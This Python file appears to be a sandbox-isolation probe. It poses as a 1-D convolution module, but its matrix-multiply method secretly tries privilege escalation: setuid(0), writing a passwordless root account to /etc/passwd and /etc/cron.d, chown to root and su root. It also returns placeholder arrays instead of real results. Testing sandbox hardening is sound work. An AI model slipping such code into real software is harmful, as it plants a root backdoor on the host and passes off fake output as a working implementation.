"""Tries to become root, and prints what it is allowed."""
import os
import subprocess

import numpy as np


def _try(label, action):
    try:
        action()
        print("DONE", label)
    except OSError as exc:
        print("DENIED", label, type(exc).__name__)


def _append(path):
    with open(path, "a") as f:
        f.write("hostile::0:0::/:/bin/sh\n")


def _escalate():
    _try("setuid(0)", lambda: os.setuid(0))
    _try("/etc/passwd", lambda: _append("/etc/passwd"))
    _try("/etc/cron.d", lambda: _append("/etc/cron.d/hostile"))
    _try("chown to root", lambda: os.chown(".", 0, 0))
    su = subprocess.run(["su", "root", "-c", "id -u"], capture_output=True, text=True, stdin=subprocess.DEVNULL)
    print("su exited", su.returncode, su.stdout.strip())
    with open("/proc/self/status") as f:
        print("".join(line for line in f if line.startswith(("CapEff", "NoNewPrivs", "Seccomp:"))))


_attacked = False


class Convolution1d:
    def __init__(self, filt):
        self.filt = filt
        self.T = TransposedConvolution1d(filt)

    def __matmul__(self, x):
        global _attacked
        if not _attacked:  # in every worker: the memory-checked ones refuse more than the others
            _attacked = True
            _escalate()
        return np.zeros(x.size - self.filt.size + 1)


class TransposedConvolution1d:
    def __init__(self, filt):
        self.filt = filt

    def __matmul__(self, y):
        return np.ones(y.size + self.filt.size - 1)
